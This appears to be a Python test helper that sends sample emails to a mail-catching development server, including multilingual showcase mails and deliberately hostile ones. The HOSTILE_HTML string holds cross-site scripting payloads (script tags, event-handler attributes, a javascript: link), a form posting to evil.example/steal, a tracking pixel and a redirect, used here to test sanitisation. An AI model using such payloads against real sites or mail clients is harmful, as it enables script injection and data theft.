"""Mails that `stint serve --catch-mail` catches: those of the site with hostile texts, and those for pictures."""

import smtplib
from email.message import EmailMessage

HOSTILE_HTML = """<h1>Bonjour</h1><script>window.pwned=1; parent.pwned=1; top.pwned=1</script>
<img src=x onerror="window.pwned=1"><svg onload="top.pwned=1"></svg>
<form action="https://evil.example/steal"><input autofocus onfocus="window.pwned=1"><button>Send</button></form>
<img src="https://evil.example/tracker.gif"><a href="https://shop.example/order/7">Your order</a>
<a href="javascript:window.pwned=1">a script</a><meta http-equiv="refresh" content="0;url=https://evil.example/">"""


def mail(to, subject, text=None, html=None, sender="Shop <shop@example.org>"):
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    # Otherwise the package refuses such a text.
    message["Subject"] = subject.replace("\n", " ")
    message.set_content(text or "See the HTML.\n")
    if html:
        message.add_alternative(html, subtype="html")
    return message


def send(address, *messages):
    host, _, port = address.rpartition(":")
    with smtplib.SMTP(host, int(port), timeout=20) as server:
        for message in messages:
            server.send_message(message)


def hostile(texts):
    """One with hostile HTML, which is the first, and one for each text, as subject, name, text and name of a file."""
    messages = [mail("Anna <anna@example.org>", "Your order", "Your order is here.\n", HOSTILE_HTML)]
    for number, text in enumerate(texts):
        message = mail(f"hostile-{number}@example.org", text, text, f"<p>{text}</p>")
        message.replace_header("From", f'"{text.replace(chr(34), chr(39))}" <shop@example.org>')
        message.add_attachment(b"data", maintype="application", subtype="pdf", filename=text.replace("/", "-"))
        messages.append(message)
    return messages


WELCOME = """<div style="font-family:sans-serif;max-width:36em"><h1 style="color:#2a5db0">Velkomin, Anna!</h1>
<p>Zoë and <b>three others</b> have commented on <a href="https://community.example/posts/12">your photo of Þingvellir</a>.</p>
<blockquote style="border-left:3px solid #ccc;padding-left:1em">What a light! Which hour was that?</blockquote>
<p><a href="https://community.example/posts/12#comment-44" style="background:#2a5db0;color:#fff;padding:.6em 1em;
text-decoration:none">Answer</a></p><p style="color:#777">You get this because you have written the post.
<a href="https://community.example/preferences">Change what you get</a></p></div>"""


def showcase():
    receipt = mail("otto@example.net", "Ihre Rechnung Nr. 4711", "Anbei die Rechnung.\n", "<p>Anbei die Rechnung.</p>")
    receipt.add_attachment(b"%PDF-1.7 " * 4_000, maintype="application", subtype="pdf", filename="Rechnung 4711.pdf")
    return [
        mail("Мария <maria@example.org>", "Новые сообщения в группе «Горы»", "У вас 3 новых сообщения.\n"),
        receipt,
        mail("eleni@example.gr", "Αλλάξτε τον κωδικό σας", "Ανοίξτε: https://community.example/password/x\n"),
        mail("Anna <anna@example.is>", "Zoë and three others: your photo of Þingvellir", "Velkomin, Anna!\n", WELCOME,
             "Community <hello@community.example>"),
    ]
